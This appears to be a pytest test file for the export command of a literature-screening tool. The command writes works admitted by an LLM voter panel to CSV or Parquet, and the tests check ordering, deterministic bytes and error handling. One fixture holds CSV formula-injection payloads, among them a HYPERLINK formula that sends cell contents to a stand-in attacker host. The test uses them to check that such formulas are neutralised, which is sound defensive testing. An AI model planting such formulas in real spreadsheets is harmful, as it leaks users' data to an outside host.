"""The hand-off: only works the expensive screen admitted in the current generation, rebuilt from the pool."""

from __future__ import annotations

import csv
import json

import pyarrow.parquet as pq
import pytest
from support.fake_openai import Answer, FakeOpenAI, Status
from support.routing import TODAY, write_specs
from test_screen_run import PREFIX, RULES, make_workspace, screen, title_of

from reporter.cli import main
from reporter.config import load_workspace
from reporter.errors import InputError
from reporter.panel.readonly import open_readonly
from reporter.routing.release import route_release
from reporter.screening.config import WHERE
from reporter.screening.export import export_release, iter_export_rows, screen_columns, write_export

SCRIPT = {
    ("W001", "cheap-a"): Answer("exclude"), ("W001", "cheap-b"): Answer("exclude"),   # cheap discard
    ("W003", "exp-a"): Answer("exclude"), ("W003", "exp-b"): Answer("exclude"),       # discard
    ("W004", "exp-a"): Answer("exclude", "Off topic."), ("W004", "exp-b"): Answer("include", "On topic."),
    ("W005", "exp-b"): Status(400),                                                   # one vote: held back
}
"""W001-W002 cheap, W003-W007 screen, W008 other. Admitted: W002 (passed on by the cheap tier), W004, W006, W007."""


@pytest.fixture(scope="module")
def screened(tmp_path_factory):
    """A workspace screened once, with a second release routed afterwards by a changed rule book."""
    root = tmp_path_factory.mktemp("export") / "ws"
    with FakeOpenAI(SCRIPT, default=Answer("include", "Fits.")) as server:
        w = make_workspace(root, server.base_url, cheap=2, screen=5, other=1)
        server.titles = w["titles"]
        screen(w)
    # A new release: same works in the same piles, one more rule (so another release id); nothing screened in it.
    write_specs(root, RULES + [{"id": "never", "description": "matches nothing here", "pile": "hold",
                                "precedence": 5, "match": {"field": "title", "any_phrase": ["nowhere"]}}])
    w["second"] = route_release(root / "pool.parquet", root / "specs", root / "releases", workers=1,
                                progress=False, as_of=TODAY).release_dir
    assert w["second"] != w["release_dir"]
    return w


def rows_of(w: dict, release_dir) -> list[dict]:
    ws = load_workspace(w["root"])
    with open_readonly(ws.screen.database, WHERE) as store:
        return list(iter_export_rows(ws, release_dir, store=store))


def test_only_admitted_works_of_the_current_generation_in_release_order(screened):
    rows = rows_of(screened, screened["release_dir"])
    assert [r["work_id"] for r in rows] == [PREFIX + x for x in ("W002", "W004", "W006", "W007")]
    w004 = rows[1]
    assert w004["title"] == title_of("W004", "screen") and w004["abstract"] == "Abstract of W004."
    assert w004["year"] == "2004" and w004["source"] == "journal", "every pool column is carried"
    assert (w004["pile"], w004["winner"]) == ("screen", "to-screen")
    assert rows[0]["pile"] == "screen_cheap", "a work the cheap tier passed on keeps its pile"
    assert w004["screen_outcome"] == "admit" and len(w004["screen_generation"]) == 64
    assert (w004["screen_voter1_name"], w004["screen_voter1_model"], w004["screen_voter1_label"],
            w004["screen_voter1_reason"]) == ("expensive-a", "exp-a", "exclude", "Off topic.")
    assert (w004["screen_voter2_label"], w004["screen_voter2_reason"]) == ("include", "On topic.")
    assert w004["screen_voter1_invalid_cause"] is None and w004["screen_voter1_cost_usd"] > 0
    assert w004["screen_voter1_input_tokens"] > 0 and w004["screen_voter1_output_tokens"] > 0


def test_a_verdict_follows_its_work_into_a_new_release(screened):
    assert rows_of(screened, screened["second"]) == rows_of(screened, screened["release_dir"])


def test_a_changed_prompt_leaves_nothing_to_hand_off_until_screened_again(screened, tmp_path):
    import shutil
    copy = tmp_path / "ws"
    shutil.copytree(screened["root"], copy)
    (copy / "criteria.md").write_text("Only works about replication.")
    text = (copy / "reporter.toml").read_text().replace("[screen]\n", '[screen]\ncriteria = "criteria.md"\n')
    (copy / "reporter.toml").write_text(text)
    moved = {**screened, "root": copy}
    assert rows_of(moved, copy / "releases" / screened["release_dir"].name) == []


def test_csv_and_parquet_hold_the_same_rows_and_the_same_bytes_every_time(screened, tmp_path):
    ws = load_workspace(screened["root"])
    paths = {}
    for run in (1, 2):
        for suffix in ("csv", "parquet"):
            out = tmp_path / f"{run}" / f"handoff.{suffix}"
            assert export_release(ws, screened["release_dir"], out) == 4
            paths[(run, suffix)] = out.read_bytes()
    assert paths[(1, "csv")] == paths[(2, "csv")] and paths[(1, "parquet")] == paths[(2, "parquet")]
    table = pq.read_table(tmp_path / "1" / "handoff.parquet")
    with open(tmp_path / "1" / "handoff.csv", newline="", encoding="utf-8") as f:
        reader = csv.DictReader(f)
        from_csv = list(reader)
        header = reader.fieldnames
    assert header == table.schema.names
    assert header[:5] == ["work_id", "source", "title", "abstract", "year"]
    from_parquet = table.to_pylist()
    assert len(from_csv) == len(from_parquet) == 4
    for c, p in zip(from_csv, from_parquet):
        for name, value in p.items():
            if value is None:
                assert c[name] == ""
            elif isinstance(value, float):
                assert float(c[name]) == pytest.approx(value)
            else:
                assert c[name] == str(value), name
    assert from_parquet == rows_of(screened, screened["release_dir"])
    assert not list(tmp_path.rglob(".tmp-*")), "written atomically, no temporary left behind"


def test_the_export_command_and_its_errors(screened, tmp_path, capsys, monkeypatch):
    out = tmp_path / "handoff.csv"
    # W005 has one vote (its other voter failed): the screen is not complete, so the hand-off is refused.
    assert main(["export", "--workspace", str(screened["root"]), "--out", str(out)]) == 2
    err = capsys.readouterr().err
    assert ("the screen is not complete (expensive screen: 0 works leased, 1 not claimed yet, 1 of them failed "
            "after retries)") in err and "--partial" in err and "Nothing was written" in err
    assert not list(tmp_path.iterdir()), "nothing written on a refusal"
    assert main(["export", "--workspace", str(screened["root"]), "--out", str(out), "--partial"]) == 0
    assert "4 admitted works" in capsys.readouterr().out
    assert len(out.read_text().splitlines()) == 5, "the newest release (the second) holds the same four"
    assert main(["export", "--workspace", str(screened["root"]), "--release", str(screened["release_dir"]),
                 "--out", str(tmp_path / "h.xlsx")]) == 2
    assert ".csv or .parquet" in capsys.readouterr().err
    assert main(["export", "--workspace", str(screened["root"]), "--release", str(tmp_path),
                 "--out", str(out)]) == 2
    assert "not a release folder" in capsys.readouterr().err


def test_an_unscreened_workspace_exports_a_header_and_creates_no_database(tmp_path):
    w = make_workspace(tmp_path / "ws", "http://127.0.0.1:9/v1", screen=2)
    out = tmp_path / "h.csv"
    assert export_release(w["ws"], w["release_dir"], out) == 0
    assert out.read_text().splitlines()[0].startswith("work_id,source,title,abstract,year,pile")
    assert not (w["root"] / "state").exists()


def test_screen_columns_and_write_export_alone(tmp_path):
    from reporter.panel.config import VoterSettings
    from reporter.panel.store_rows import VoteRow
    from reporter.panel.votes import Vote
    voters = tuple(VoterSettings(n, "http://x/v1", m, None, 1, 0.0, 0.0) for n, m in (("a", "ma"), ("b", "mb")))
    votes = {"a": VoteRow("expensive", "g" * 64, "w", "a", Vote(None, "refusal", "No."), 10, 2, 0.5, "r.jsonl", 0)}
    cols = screen_columns("admit", votes, voters)
    assert cols["screen_voter1_invalid_cause"] == "refusal" and cols["screen_voter1_label"] is None
    assert cols["screen_voter2_name"] == "b" and cols["screen_voter2_label"] is None
    assert json.dumps(cols)  # plain values only
    nested = [{"work_id": "x:1", "tags": ["a", "b"], "n": 1}]
    assert write_export(nested, tmp_path / "n.csv") == 1
    assert '"[""a"",""b""]"' in (tmp_path / "n.csv").read_text(), "nested values as JSON text in CSV"
    with pytest.raises(InputError, match=".csv or .parquet"):
        write_export(nested, tmp_path / "n.json")


FORMULAS = {"W001": '=HYPERLINK("http://evil.example/?x="&A1,"click")', "W002": "+1+1", "W003": "-2+3",
            "W004": "@SUM(A1:A9)", "W005": "\tTab first", "W006": "\rCR first"}


def test_the_csv_hand_off_neutralises_formulas_as_the_site_does(tmp_path):
    from reporter.csvcells import csv_bytes

    def script(work: str, model: str, attempt: int):
        if work in FORMULAS:
            return Answer("include", FORMULAS[work])
        return Answer("include", "\ud800 lone")  # W007: a reason no UTF-8 file can hold as it is

    with FakeOpenAI(script) as server:
        w = make_workspace(tmp_path / "ws", server.base_url, screen=7, cheap_voters=False)
        server.titles = w["titles"]
        screen(w)
    out, parquet = tmp_path / "h.csv", tmp_path / "h.parquet"
    assert export_release(w["ws"], w["release_dir"], out) == 7
    assert export_release(w["ws"], w["release_dir"], parquet) == 7
    with open(out, newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    for row in rows:
        work = row["work_id"].removeprefix(PREFIX)
        # A lone surrogate is repaired (U+FFFD) when the reply is read (issue 30, item 3).
        want = "'" + FORMULAS[work] if work in FORMULAS else "\ufffd lone"
        assert row["screen_voter1_reason"] == row["screen_voter2_reason"] == want
    table = pq.read_table(parquet)
    assert out.read_bytes() == csv_bytes(table.schema.names, [tuple(r.values()) for r in table.to_pylist()]), \
        "the very bytes the site's CSV writer gives"
    assert table.column("screen_voter1_reason").to_pylist()[0] == FORMULAS["W001"], "Parquet keeps the text"


def test_out_naming_a_folder_a_link_a_fifo_a_device_or_a_missing_folder_is_refused(screened, tmp_path, capsys):
    from test_files import assert_untouched, out_targets
    for kind, (path, message) in out_targets(tmp_path, "handoff.csv").items():
        assert main(["export", "--workspace", str(screened["root"]), "--out", str(path)]) == 2, kind
        err = capsys.readouterr().err
        assert f"--out {path}" in err and message in err and "Traceback" not in err, kind
    assert_untouched(tmp_path)
